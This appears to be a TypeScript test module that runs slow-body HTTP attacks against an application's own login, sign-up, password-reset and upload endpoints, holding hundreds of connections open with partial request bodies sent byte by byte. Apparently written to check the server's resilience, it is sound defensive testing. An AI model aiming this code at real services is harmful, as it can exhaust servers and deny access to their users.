import type { Target } from './requests'

/** Connections at once, each with a request whose body does not end. */
const connections = 300
/** Bytes that a body announces; strangers may send 16 kB. */
const announced = 16_000
/** A byte of each body comes this often. */
const trickleMs = 50
/** Time after which the connections are given up. */
const heldMs = 1000

/** Half bodies of strangers: to the login, the sign-up and the forgotten password. Returns the number of open ones. */
export async function halfBodies({ url }: Target): Promise<number> {
  const paths = ['/api/auth/login', '/api/companies/cadastro', '/api/forgetpassword']
  await hold(url, (n) => requestHead('POST', paths[n % paths.length] as string, {}))
  return 0
}

/** Half uploads of a person, of which ten are read at once. */
export async function halfUploads({ url, tokens, ticketId }: Target): Promise<number> {
  const headers = { Authorization: `Bearer ${tokens.user}` }
  await hold(url, () => requestHead('PUT', `/api/messages/${ticketId}/upload?fileName=a.bin`, headers))
  return 0
}

function requestHead(method: string, path: string, headers: Record<string, string>): string {
  const all = { Host: 'localhost', 'Content-Type': 'application/json', 'Content-Length': `${announced}`, ...headers }
  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}`)
  return `${[`${method} ${path} HTTP/1.1`, ...lines].join('\r\n')}\r\n\r\n{"email":"`
}

async function hold(url: string, headOf: (n: number) => string) {
  const { hostname, port } = new URL(url)
  const open = (n: number) =>
    Bun.connect({
      hostname,
      port: Number(port),
      socket: { open: (socket) => void socket.write(headOf(n)), data() {}, error() {}, close() {} },
    })
  const sockets = await Promise.all(Array.from({ length: connections }, (_, n) => open(n)))
  for (let passed = 0; passed < heldMs; passed += trickleMs) {
    for (const socket of sockets) socket.write('a')
    await Bun.sleep(trickleMs)
  }
  for (const socket of sockets) socket.terminate()
}
